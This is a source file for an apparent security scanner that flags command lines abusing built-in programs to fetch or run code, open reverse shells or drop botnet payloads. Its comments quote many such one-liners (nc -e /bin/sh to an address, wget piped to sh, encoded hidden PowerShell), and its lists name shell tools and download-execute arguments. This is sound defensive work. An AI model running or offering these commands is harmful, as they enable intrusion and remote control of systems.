// A value that is a command line running one of the system's own programs to fetch or run code
// ("living off the land": `certutil -urlcache -f http://…`, `regsvr32 /i:http://… scrobj.dll`,
// `mshta http://…`, `powershell -w hidden -enc <base64>`; an interpreter given a one-line program
// that opens a socket or a shell, `python -c 'import pty;pty.spawn("/bin/sh")'`, `awk 'BEGIN
// {system("id")}'`; curl or wget piping a URL's download to a shell, `wget -qO- http://… | sh`; a
// reverse shell, `nc -e /bin/sh …`, `socat … exec:sh`, `echo <base64> | base64 -d | bash`), as an
// application that runs the value it is given (`cmd /c <value>`, `sh -c <value>`) receives it.
// After a separator (`& certutil …`) core/cmdinject.ts and the model flag these; as the whole value
// the model scored `certutil -urlcache -split -f http://…` 99, `powershell -nop -w hidden -enc …`
// 99, `wmic process call create "…"` 98, the Python line 85, `ruby -rsocket -e
// 'c=TCPSocket.new(…)'` 99, `wget -O- http://…/a|bash` 99 and the echo line 75. A program is named
// by the value's first word (blanks, quotes, `(` and a `cmd /c` before it aside, a path and `.exe`
// allowed, cmd.exe's carets and quotes inside it dropped: `c^ertutil`), and only with the argument
// that makes it fetch or run something: a program named in prose, or with its everyday arguments
// (`certutil -hashfile`, `wmic os get caption`, `nc -zv host 443`), is left to the model. Read by
// core/payloads.ts; total and allocation-free.

import { byteAt, indexOfWord, isLetter, isSpaceOrTab, lowerAscii, matchesLowerAt, skipSpacesAndTabs, nextSpaceOrTab, startsOneOf } from "../lib/bytes";
import { shellWordEnd, isCommandWord, isCmdletWord } from "./confirm";
import { dottedQuad } from "./cmdinject";

const POWERSHELL = 0, PWSH = 1, CERTUTIL = 2, BITSADMIN = 3, REGSVR32 = 4, RUNDLL32 = 5, MSHTA = 6, WMIC = 7,
  MSIEXEC = 8, CSCRIPT = 9, WSCRIPT = 10, CMD = 11, AWK = 12, GAWK = 13, CURL = 14, WGET = 15, NC = 16, NCAT = 17,
  NETCAT = 18, BUSYBOX = 19, SOCAT = 20, TELNET = 21, ECHO = 22, PRINTF = 23, BASE64 = 24, CD = 25, TFTP = 26, PING = 27;
const PROGRAMS: StaticArray<string> = [
  "powershell", "pwsh", "certutil", "bitsadmin", "regsvr32", "rundll32", "mshta", "wmic", "msiexec", "cscript", "wscript", "cmd",
  "awk", "gawk", "curl", "wget", "nc", "ncat", "netcat", "busybox", "socat", "telnet", "echo", "printf", "base64",
  // `cd <dir>` and a separator before the command line (`cd /tmp; wget …`).
  "cd",
  // A botnet's fetch from an address (`tftp -g -r x <address>`), and the blind injection's time
  // probe (`ping -c 10 127.0.0.1`).
  "tftp", "ping",
  // The interpreters, all that follow: an option, then a program that holds one of CODE_MARKERS.
  "python", "python2", "python3", "perl", "ruby", "php", "node", "lua",
];

// The arguments, any one of which (without case, anywhere on the line after the program) makes the
// program fetch or run code. PowerShell's are read as options (runsPowerShellPayload).
const CERTUTIL_ARGS: StaticArray<string> = ["urlcache", "-decode", "/decode", "-verifyctl"];
const BITSADMIN_ARGS: StaticArray<string> = ["/transfer", "/addfile", "/setnotifycmdline"];
const REGSVR32_ARGS: StaticArray<string> = ["/i:", "-i:"];
const RUNDLL32_ARGS: StaticArray<string> = ["javascript:", "vbscript:", "runhtmlapplication", "url.dll,", "shellexec_rundll", "zipfldr.dll,", "advpack.dll,", "ieadvpack.dll,", "pcwutl.dll,", "comsvcs.dll"];
const URL_ARGS: StaticArray<string> = ["http:", "https:", "ftp:", "\\\\", "javascript:", "vbscript:"];
const WMIC_ARGS: StaticArray<string> = ["call create", "/format:"];
const SCRIPT_ARGS: StaticArray<string> = ["//e:", "/e:", "\\\\"];
// socat's addresses that run a program (`exec:sh`, `system:…`).
const SOCAT_RUNS: StaticArray<string> = ["exec:", "system:"];
// What a download is piped to that runs it (`curl -s http://… | sh`), or netcat runs for its peer
// (`nc -e /bin/sh …`, `nc.exe -e cmd.exe …`), a path before it allowed.
const SHELLS: StaticArray<string> = [
  "sh", "bash", "zsh", "ksh", "dash", "ash", "csh", "tcsh", "fish", "python", "python2", "python3", "perl", "ruby", "php", "node",
  "cmd", "powershell", "pwsh",
];
// What a one-line program that opens a shell or a socket, or runs a command, holds.
const CODE_MARKERS: StaticArray<string> = [
  "socket", "pty", "subprocess", "system", "exec", "popen", "spawn", "child_process", "/bin/sh", "/bin/bash", "/dev/tcp",
  "/inet/tcp", "getline",
];
// Words of a sentence about wmic, tftp or ping rather than its command line.
const PROSE: StaticArray<string> = [" is ", " can ", " the ", " to ", " was ", " and "];

// The longest program word read (a path before it included): longer words are no program's.
const MAX_WORD = 96;

// Whether livingOffTheLand can hold, in a few instructions and no call for every text (core/payloads.ts
// asks it of texts with no trigger byte): the first three bytes may start a program's name (a caret
// or a double quote may stand inside it), or the first may open a path or the command.
// @ts-ignore: decorator
@inline export function mayLiveOffTheLand(p: usize, n: i32): bool {
  if (n < 12) return false;
  let f = <u32>load<u8>(FIRST + <usize>load<u8>(p));
  if (f <= OPENS) return f == OPENS;
  let second = lowerAscii(<u32>load<u8>(p, 1)), third = lowerAscii(<u32>load<u8>(p, 2));
  // A blank or a `.` third stands for a two-letter name's end (`nc `, `nc.exe`): bit 26.
  if (third == 0x20 || third == 0x2E) third = 0x61 + 26;
  if (second - 0x61 < 26 && third - 0x61 < 27) {
    return ((load<u32>(THIRD_LETTERS + ((<usize>(f - LETTER) * 26 + <usize>(second - 0x61)) << 2)) >>> (third - 0x61)) & 1) != 0;
  }
  return second == 0x5E || second == 0x22 || third == 0x5E || third == 0x22 || (f == LETTER + 2 && second == 0x3A); // `c^…`, `c"…`, `c:\…`
}

// For each byte: LETTER + its index for a letter that starts a program's name, OPENS for a blank, a
// quote, `(`, `%` (`%windir%\…`) and `\` (`\\host\…`), 0 for any other.
const OPENS: u32 = 1, LETTER: u32 = 2;
const FIRST = firstBytes();
function firstBytes(): usize {
  let t = memory.data(256);
  for (let k = 0; k < PROGRAMS.length; k++) {
    let c = PROGRAMS[k].charCodeAt(0);
    store<u8>(t + <usize>c, <u8>(LETTER + c - 0x61));
    store<u8>(t + <usize>(c - 0x20), <u8>(LETTER + c - 0x61));
  }
  for (let c = 0; c <= 0x20; c++) store<u8>(t + <usize>c, <u8>OPENS);
  store<u8>(t + 0x22, <u8>OPENS); store<u8>(t + 0x27, <u8>OPENS); store<u8>(t + 0x28, <u8>OPENS);
  store<u8>(t + 0x25, <u8>OPENS); store<u8>(t + 0x5C, <u8>OPENS);
  return t;
}

// For each first and second letter, a bit per third letter that some program's name (or `cmd`)
// has after those two; bit 26 for a two-letter name (`nc`), whose third byte is a blank or a `.`. A
// bit per second and per third letter alone let every `note`, `price` and `base` through (`node`'s
// o, `netcat`'s t): 0.3% of a JSON body's instructions (make profile).
const THIRD_LETTERS = thirdLetters();
function thirdLetters(): usize {
  let t = memory.data(26 * 26 * 4, 4);
  for (let k = 0; k < PROGRAMS.length; k++) {
    let w = PROGRAMS[k];
    let cell = t + ((<usize>(w.charCodeAt(0) - 0x61) * 26 + <usize>(w.charCodeAt(1) - 0x61)) << 2);
    store<u32>(cell, load<u32>(cell) | (1 << (w.length > 2 ? w.charCodeAt(2) - 0x61 : 26)));
  }
  return t;
}

export function livingOffTheLand(p: usize, n: i32): bool {
  let word = programAt(p, n, skipOpening(p, n, 0));
  let program = (word & 63) - 1;
  if (program == CMD) {
    // `cmd /c <line>`: the program that line runs.
    let i = skipSpacesAndTabs(p, n, word >> 6);
    if (!(byteAt(p, n, i) == 0x2F && (lowerAscii(byteAt(p, n, i + 1)) == 0x63 || lowerAscii(byteAt(p, n, i + 1)) == 0x6B) &&
        isSpaceOrTab(byteAt(p, n, i + 2)))) return false;
    word = programAt(p, n, skipOpening(p, n, i + 3));
    program = (word & 63) - 1;
  }
  if (program == CD) {
    // `cd /tmp; wget …`, `cd /tmp && curl …`: a download line after the directory.
    let i = skipSpacesAndTabs(p, n, word >> 6);
    while (i < n && !isSpaceOrTab(load<u8>(p + <usize>i)) && load<u8>(p + <usize>i) != 0x3B && load<u8>(p + <usize>i) != 0x26) i++;
    i = skipSpacesAndTabs(p, n, i);
    let c = byteAt(p, n, i);
    if (c == 0x3B) i++;
    else if (c == 0x26 && byteAt(p, n, i + 1) == 0x26) i += 2;
    else return false;
    word = programAt(p, n, skipSpacesAndTabs(p, n, i));
    program = (word & 63) - 1;
    if (program != CURL && program != WGET && program != BUSYBOX) return false;
  }
  if (program < 0 || program == CMD) return false;
  let s = word >> 6;
  if (s >= n || !isSpaceOrTab(load<u8>(p + <usize>s))) return false;
  let e = s;
  while (e < n && load<u8>(p + <usize>e) != 0x0A && load<u8>(p + <usize>e) != 0x0D) e++;
  // The first argument: an option for the programs read by their switches, what rundll32 runs or
  // mshta loads for those two (a sentence about a program has a word there).
  let a = skipSpacesAndTabs(p, e, s);
  let ae = nextSpaceOrTab(p, e, a);
  switch (program) {
    case RUNDLL32: return containsOneOf(p, ae, a, RUNDLL32_ARGS);
    case MSHTA: return containsOneOf(p, min(ae, a + 12), a, URL_ARGS);
    case WMIC: return containsOneOf(p, e, s, WMIC_ARGS) && !containsOneOf(p, e, s, PROSE);
    // awk's program is its first argument, quoted, or follows its options.
    case AWK: case GAWK: return (byteAt(p, e, a) == 0x27 || byteAt(p, e, a) == 0x22 || byteAt(p, e, a) == 0x2D) && containsOneOf(p, e, a, CODE_MARKERS);
    case CURL: case WGET: return pipedToShell(p, e, s, true) || downloadRun(p, e, s);
    // A reverse shell: netcat running a program for its peer, socat joining one to a socket, or a
    // telnet session, an echo or a decoder piped to a shell (`echo aWQ= | base64 -d | sh`).
    case NC: case NCAT: case NETCAT: return execOption(p, e, s);
    case SOCAT: return containsOneOf(p, e, s, SOCAT_RUNS);
    case TELNET: case ECHO: case PRINTF: case BASE64: return pipedToShell(p, e, s, false);
    case TFTP: return fetchesFromAddress(p, e, s) && !containsOneOf(p, e, s, PROSE);
    case PING: return pingsLoopback(p, e, s) && !containsOneOf(p, e, s, PROSE);
    case BUSYBOX: {
      // `busybox nc …`: the applet it runs.
      let applet = programAt(p, e, a);
      let k = (applet & 63) - 1;
      return ((k == NC || k == NCAT || k == NETCAT) && execOption(p, e, applet >> 6)) || (k == WGET && downloadRun(p, e, applet >> 6));
    }
  }
  let opt = byteAt(p, e, a);
  // PowerShell runs a line it is given without `-Command` too (`powershell "Get-Process"`).
  if ((program == POWERSHELL || program == PWSH) && opt != 0x2D && opt != 0x2F) return runsCommandAt(p, e, a, true);
  if (opt != 0x2D && opt != 0x2F) return false;
  switch (program) {
    case POWERSHELL: case PWSH: return runsPowerShellPayload(p, e, s);
    case CERTUTIL: return containsOneOf(p, e, s, CERTUTIL_ARGS);
    case BITSADMIN: return containsOneOf(p, e, s, BITSADMIN_ARGS);
    case REGSVR32: return containsOneOf(p, e, s, REGSVR32_ARGS);
    case MSIEXEC: return containsOneOf(p, e, s, URL_ARGS);
    case CSCRIPT: case WSCRIPT: return containsOneOf(p, e, s, SCRIPT_ARGS);
    default: return containsOneOf(p, e, s, CODE_MARKERS); // an interpreter
  }
}

// Whether p[s..e) is piped (`|`, not `||`, which runs on failure) into one of SHELLS, `sudo` before
// it allowed; with afterUrl, only after a URL: the download runs as a script (`wget -qO- http://…/x
// | sudo bash`).
function pipedToShell(p: usize, e: i32, s: i32, afterUrl: bool): bool {
  for (let i = s; i < e; i++) {
    if (load<u8>(p + <usize>i) != 0x7C) continue;
    if (byteAt(p, e, i + 1) == 0x7C) { i++; continue; }
    if (afterUrl && !containsOneOf(p, i, s, URL_ARGS)) continue;
    let j = skipSpacesAndTabs(p, e, i + 1);
    if (matchesLowerAt(p, e, j, "sudo") && isSpaceOrTab(byteAt(p, e, j + 4))) j = skipSpacesAndTabs(p, e, j + 4);
    if (shellAt(p, e, j)) return true;
  }
  return false;
}

// Whether p[s..e), a download's arguments, fetch from a URL whose host is an IPv4 address and then,
// after a separator, run what came (`; chmod 777 x; ./x`, `&& sh x.sh`, `; /tmp/x`): a botnet's
// dropper (`cd /tmp; wget http://…/mozi.m; chmod 777 mozi.m; ./mozi.m`, which the model scored 80).
// An install line fetches from a name (`curl -LO https://dl.k8s.io/… && chmod +x kubectl`).
function downloadRun(p: usize, e: i32, s: i32): bool {
  // The download's URLs, up to the first separator.
  let i = s;
  let fromAddress = false;
  while (i < e) {
    let c = load<u8>(p + <usize>i);
    if (c == 0x3B || c == 0x26 || c == 0x7C) break;
    if (c == 0x3A && byteAt(p, e, i + 1) == 0x2F && byteAt(p, e, i + 2) == 0x2F) {
      // The host after `://`, up to a `/`, a port's `:` or a blank.
      let h = i + 3, k = h;
      while (k < e && load<u8>(p + <usize>k) != 0x2F && load<u8>(p + <usize>k) != 0x3A && !isSpaceOrTab(load<u8>(p + <usize>k))) k++;
      fromAddress = fromAddress || dottedQuad(p, h, k);
      i = k;
      continue;
    }
    i++;
  }
  if (!fromAddress) return false;
  // After a separator, what runs the file: chmod, a shell given it, or its path.
  while (i < e) {
    let c = load<u8>(p + <usize>i);
    if (c != 0x3B && c != 0x26 && c != 0x7C) { i++; continue; }
    let j = i + 1;
    while (j < e && (load<u8>(p + <usize>j) == 0x26 || load<u8>(p + <usize>j) == 0x7C)) j++;
    j = skipSpacesAndTabs(p, e, j);
    if (startsOneOf(p, e, j, RUNS_FILE)) return true;
    i = j;
  }
  return false;
}

// Whether tftp's arguments p[s..e) get a file (`-g`, `get`, any case) from an IPv4 address, as IoT
// botnets' droppers do (`tftp -g -r x <address>`, `tftp -i <address> GET x.exe`), which the model scored 99.
function fetchesFromAddress(p: usize, e: i32, s: i32): bool {
  let address = false, get = false;
  for (let i = skipSpacesAndTabs(p, e, s); i < e; i = skipSpacesAndTabs(p, e, i)) {
    let j = nextSpaceOrTab(p, e, i);
    address = address || dottedQuad(p, i, j);
    get = get || indexOfWord(p, e, i, j - i, TFTP_GETS) >= 0;
    i = j;
  }
  return address && get;
}
const TFTP_GETS: StaticArray<string> = ["-g", "get"];

// Whether ping's arguments p[s..e) hold a count, an interval or a deadline (`-c`, `-n`, `-i`, `-w`)
// and a loopback target (`127.…`, `localhost`): a blind command injection's time probe, which only
// waits (`ping -c 10 127.0.0.1`, `ping -n 10 127.0.0.1`; the model scored the first 62). A ping of
// another host is a network tool's.
function pingsLoopback(p: usize, e: i32, s: i32): bool {
  let option = false, loopback = false;
  for (let i = skipSpacesAndTabs(p, e, s); i < e; i = skipSpacesAndTabs(p, e, i)) {
    let j = nextSpaceOrTab(p, e, i);
    if (j - i == 2 && load<u8>(p + <usize>i) == 0x2D) {
      let c = lowerAscii(<u32>load<u8>(p + <usize>(i + 1)));
      option = option || c == 0x63 || c == 0x6E || c == 0x69 || c == 0x77;
    } else {
      loopback = loopback || (dottedQuad(p, i, j) && matchesLowerAt(p, j, i, "127.")) || (j - i == 9 && matchesLowerAt(p, j, i, "localhost"));
    }
    i = j;
  }
  return option && loopback;
}

// What runs a downloaded file after a separator (lower case, matched without case).
const RUNS_FILE: StaticArray<string> = ["chmod ", "sh ", "bash ", "./", "/tmp/", "/var/tmp/", "/dev/shm/"];

// Whether the word at j names one of SHELLS, read as programAt reads a program's name (`/bin/bash`,
// `C:\…\cmd.exe`), whatever follows it (`-e /bin/sh&`).
function shellAt(p: usize, e: i32, j: i32): bool {
  readName(p, e, j);
  return nameLen <= NAME_BYTES && indexOfWord(NAME, nameLen, 0, nameLen, SHELLS) >= 0;
}

// Whether p[s..e) holds netcat's option that runs a program for the peer: `-e` or `-c` as a word
// before a shell (`nc -e /bin/sh 10.0.0.1 4444`; `nc -e is disabled …` is a sentence), or ncat's
// `--exec`, `--sh-exec`, `--lua-exec`.
function execOption(p: usize, e: i32, s: i32): bool {
  for (let i = s; i + 1 < e; i++) {
    if (load<u8>(p + <usize>i) != 0x2D || !isSpaceOrTab(byteAt(p, e, i - 1))) continue;
    let c = byteAt(p, e, i + 1);
    if ((c == 0x65 || c == 0x63) && i + 2 < e && isSpaceOrTab(load<u8>(p + <usize>(i + 2))) && shellAt(p, e, skipSpacesAndTabs(p, e, i + 2))) return true;
    if (matchesLowerAt(p, e, i, "--exec") || matchesLowerAt(p, e, i, "--sh-exec") || matchesLowerAt(p, e, i, "--lua-exec")) return true;
  }
  return false;
}

// Blanks, quotes and `(` before a command.
function skipOpening(p: usize, n: i32, i: i32): i32 {
  while (i < n) {
    let c = load<u8>(p + <usize>i);
    if (!(isSpaceOrTab(c) || c == 0x22 || c == 0x27 || c == 0x28)) break;
    i++;
  }
  return i;
}

// Which of PROGRAMS the word at i names (1 + its index in the low 6 bits, 0 for none) and where the
// word ends (the bits above); the word must end at a blank or the end.
function programAt(p: usize, n: i32, i: i32): i32 {
  let j = readName(p, n, i);
  let end = j << 6;
  if (nameLen > NAME_BYTES || (j < n && !isSpaceOrTab(load<u8>(p + <usize>j)))) return end;
  return end | (indexOfWord(NAME, nameLen, 0, nameLen, PROGRAMS) + 1);
}

// Reads the name the word at i runs into NAME, lower case, and its length into nameLen (over
// NAME_BYTES: too long for any list): its last path segment (after `\` or `/`), carets and double
// quotes dropped as cmd.exe drops them, `.exe` after it left out. Returns where the word ends.
function readName(p: usize, n: i32, i: i32): i32 {
  let name = changetype<usize>(NAME);
  let len = 0, j = i;
  while (j < n && j - i < MAX_WORD) {
    let c = <u32>load<u8>(p + <usize>j);
    if (c == 0x5C || c == 0x2F) { len = 0; j++; continue; } // a directory before the name
    if (c == 0x5E || c == 0x22) { j++; continue; } // `^`, `"`
    if (!(isLetter(c) || c - 0x30 < 10 || c == 0x2E || c == 0x3A || c == 0x25 || c == 0x5F || c == 0x2D)) break;
    if (len < NAME_BYTES) store<u8>(name + <usize>len, <u8>lowerAscii(c));
    len++;
    j++;
  }
  if (len > 4 && len <= NAME_BYTES && matchesLowerAt(name, len, len - 4, ".exe")) len -= 4;
  nameLen = len;
  return j;
}

const NAME_BYTES = 16;
const NAME = memory.data(NAME_BYTES);
let nameLen = 0;

// Whether one of words (lower case) occurs in p[s..e), without case, carets inside it dropped as
// cmd.exe drops them (`-url^cache`).
function containsOneOf(p: usize, e: i32, s: i32, words: StaticArray<string>): bool {
  for (let i = s; i < e; i++) {
    for (let w = 0, k = words.length; w < k; w++) {
      let word = unchecked(words[w]);
      if (<u32>load<u16>(changetype<usize>(word)) == lowerAscii(<u32>load<u8>(p + <usize>i)) && matchesSkippingCarets(p, e, i, word)) return true;
    }
  }
  return false;
}

// Whether word (lower case) occurs at i, without case, carets in p aside.
function matchesSkippingCarets(p: usize, e: i32, i: i32, word: string): bool {
  let q = changetype<usize>(word);
  for (let j = 0, k = word.length; j < k; j++) {
    while (i < e && load<u8>(p + <usize>i) == 0x5E) i++;
    if (i >= e || lowerAscii(<u32>load<u8>(p + <usize>i)) != <u32>load<u16>(q + (<usize>j << 1))) return false;
    i++;
  }
  return true;
}

// PowerShell's options that hide what it runs: `-EncodedCommand` (`-e`, `-ec`, `-enc`, … any prefix,
// as PowerShell reads options) followed by base64, and `-WindowStyle hidden` (`-w hidden`, `-w 1`).
function runsPowerShellPayload(p: usize, e: i32, i: i32): bool {
  while (true) {
    i = skipSpacesAndTabs(p, e, i);
    if (i >= e) return false;
    let c = load<u8>(p + <usize>i);
    let s = i;
    i = nextSpaceOrTab(p, e, i);
    if (c != 0x2D && c != 0x2F) continue; // not an option
    let o = s + 1, len = i - o;
    if (len == 0) continue;
    let v = skipSpacesAndTabs(p, e, i);
    let ve = nextSpaceOrTab(p, e, v);
    if ((isPrefixOf(p, e, o, len, "encodedcommand") || (len == 2 && matchesLowerAt(p, e, o, "ec"))) && base64Run(p, v, ve) >= 16) return true;
    if (isPrefixOf(p, e, o, len, "windowstyle") &&
        ((ve - v == 6 && matchesLowerAt(p, e, v, "hidden")) || (ve - v == 1 && byteAt(p, e, v) == 0x31))) return true;
    // `-ExecutionPolicy Bypass` (`-ep`, `-exec`): scripts run unsigned.
    if (((len >= 2 && isPrefixOf(p, e, o, len, "executionpolicy")) || (len == 2 && matchesLowerAt(p, e, o, "ep"))) &&
        ((ve - v == 6 && matchesLowerAt(p, e, v, "bypass")) || (ve - v == 12 && matchesLowerAt(p, e, v, "unrestricted")))) return true;
    // `-Command` (`-c`, `-com`, …) before a command: the rest of the line runs.
    if (isPrefixOf(p, e, o, len, "command") && runsCommandAt(p, e, v, false)) return true;
  }
  return false;
}

// Whether p[i..e), quotes, `&`, `{` and `(` before it aside, opens with what PowerShell runs: a
// cmdlet (core/pscmdlet.ts), `iex`, or unless cmdletOnly a shell command of confirm.ts COMMANDS
// (`powershell -c "whoami"`). A program's own line (`powershell whoami`) is read only for a cmdlet or
// `iex`, which no sentence about PowerShell opens with.
function runsCommandAt(p: usize, e: i32, i: i32, cmdletOnly: bool): bool {
  while (i < e) {
    let c = load<u8>(p + <usize>i);
    if (!(isSpaceOrTab(c) || c == 0x22 || c == 0x27 || c == 0x26 || c == 0x7B || c == 0x28)) break;
    i++;
  }
  let end = shellWordEnd(p, e, i);
  return isCmdletWord() || (end - i == 3 && matchesLowerAt(p, e, i, "iex")) || (!cmdletOnly && isCommandWord());
}

// Whether p[o..o+len) is a prefix of word (lower case), without case.
function isPrefixOf(p: usize, n: i32, o: i32, len: i32, word: string): bool {
  if (len > word.length || o + len > n) return false;
  for (let j = 0; j < len; j++) if (lowerAscii(<u32>load<u8>(p + <usize>(o + j))) != <u32>load<u16>(changetype<usize>(word) + (<usize>j << 1))) return false;
  return true;
}

// How many base64 bytes p[s..e) is, or 0 when it holds another byte (quotes around it allowed).
function base64Run(p: usize, s: i32, e: i32): i32 {
  if (s < e && (load<u8>(p + <usize>s) == 0x22 || load<u8>(p + <usize>s) == 0x27)) s++;
  if (e > s && (load<u8>(p + <usize>(e - 1)) == 0x22 || load<u8>(p + <usize>(e - 1)) == 0x27)) e--;
  for (let i = s; i < e; i++) {
    let c = <u32>load<u8>(p + <usize>i);
    if (!(isLetter(c) || c - 0x30 < 10 || c == 0x2B || c == 0x2F || c == 0x3D)) return 0;
  }
  return e - s;
}
